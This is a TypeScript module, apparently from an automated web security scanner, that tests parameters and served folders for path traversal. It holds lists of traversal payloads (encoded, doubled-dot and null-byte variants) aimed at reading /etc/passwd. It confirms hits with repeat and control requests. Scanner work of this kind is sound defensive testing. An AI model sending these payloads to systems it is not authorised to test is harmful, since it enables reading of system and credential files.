import { baseAt, type InjectionPoint, nameOf, reportSilence, sendAt, textAt } from '../injection-points.ts'
import type { Probing } from '../probing.ts'
import { isSuccess, type Reply } from '../reply.ts'
import { exchangesOf, trialOn } from '../trial-parts.ts'
import { PASSWD, probeSplitPaths } from './split-paths.ts'

const FILE_NAME = /file|path|name|doc|page|template|report|image|img|download|attachment|folder|dir|resource|key|theme|lang|include|view/i
const TRAVERSALS = [
  '../../../../../../../../etc/passwd',
  '/etc/passwd',
  '....//....//....//....//....//....//etc/passwd',
  '..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd',
  '%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
  'file:///etc/passwd',
  './../../../../../../../etc/passwd',
  '../../../../../../../../etc/passwd\0.png',
]

/** The ways out that nothing stands against. */
const PLAIN = 2

/** Where a file that does not exist is answered as well as the value that was there, the value is hardly a file's name: filters of such names are not met. */
function isAnyWord(base: Reply, missing: Reply): boolean {
  return isSuccess(base) && missing.status === base.status && Math.abs(missing.bytes - base.bytes) <= 100
}

/** File-like values and the places where files are served, asked for a file that every such system has. */
export async function probePathTraversal(probing: Probing, points: readonly InjectionPoint[]): Promise<void> {
  for (const point of points) {
    const value = textAt(point)
    if (!point.hints.has('path-traversal') && !FILE_NAME.test(point.place.name) && !/\.\w{2,4}$/.test(value)) continue
    const base = await baseAt(probing, point)
    const missing = await sendAt(probing, point, `${probing.values.nonce('missing')}.txt`)
    let isShown = false
    for (const payload of point.hints.has('path-traversal') || !isAnyWord(base, missing) ? TRAVERSALS : TRAVERSALS.slice(0, PLAIN)) {
      const reply = await sendAt(probing, point, payload)
      if (!PASSWD.test(reply.body) || PASSWD.test(missing.body)) continue
      const again = await sendAt(probing, point, payload)
      const isRepeated = PASSWD.test(again.body)
      probing.trial(
        'pathTraversal',
        trialOn(point.accepted.operation, {
          name: 'system-file',
          parameter: nameOf(point),
          saw: isRepeated ? 'effect' : 'unclear',
          effect: `${payload.replace('\0', '\\0')} gives the system's list of users`,
          identity: point.accepted.session?.name ?? 'anonymous',
          baseline: base.exchange,
          control: missing.exchange,
          attempts: exchangesOf(reply, again),
          reproduced: { count: isRepeated ? 2 : 1, of: 2 },
        }),
      )
      isShown = true
      break
    }
    if (!isShown)
      reportSilence(probing, 'pathTraversal', point, base, {
        name: 'system-file',
        saw: 'no-effect',
        effect: `${TRAVERSALS.length} ways out of the folder led nowhere`,
        control: missing.exchange,
      })
  }
  await probeSplitPaths(probing, points)
  for (const folder of ['/static', '/uploads', '/files', '/public', '/assets', '']) {
    for (const way of [
      '/../../../../../../../../etc/passwd',
      '/..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd',
      '/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/etc/passwd',
    ]) {
      const reply = await probing.client.send({ method: 'GET', path: folder + way, mayFail: true })
      const isShown = PASSWD.test(reply.body)
      if (!isShown) continue
      const again = await probing.client.send({ method: 'GET', path: folder + way, mayFail: true })
      const control = await probing.client.send({ method: 'GET', path: `${folder}/${probing.values.nonce('missing')}`, mayFail: true })
      probing.trial(
        'pathTraversal',
        trialOn(
          { method: 'GET', path: `${folder}/*`, file: null, line: null },
          {
            name: 'served-folder',
            saw: 'effect',
            effect: `${folder + way} gives the system's list of users`,
            control: control.exchange,
            attempts: exchangesOf(reply, again),
            reproduced: { count: 2, of: 2 },
          },
        ),
      )
      break
    }
  }
  probing.trial(
    'pathTraversal',
    trialOn(
      { method: 'GET', path: '/*', file: null, line: null },
      { name: 'served-folder', saw: 'no-effect', effect: 'ways out of six served folders were tried' },
    ),
  )
}
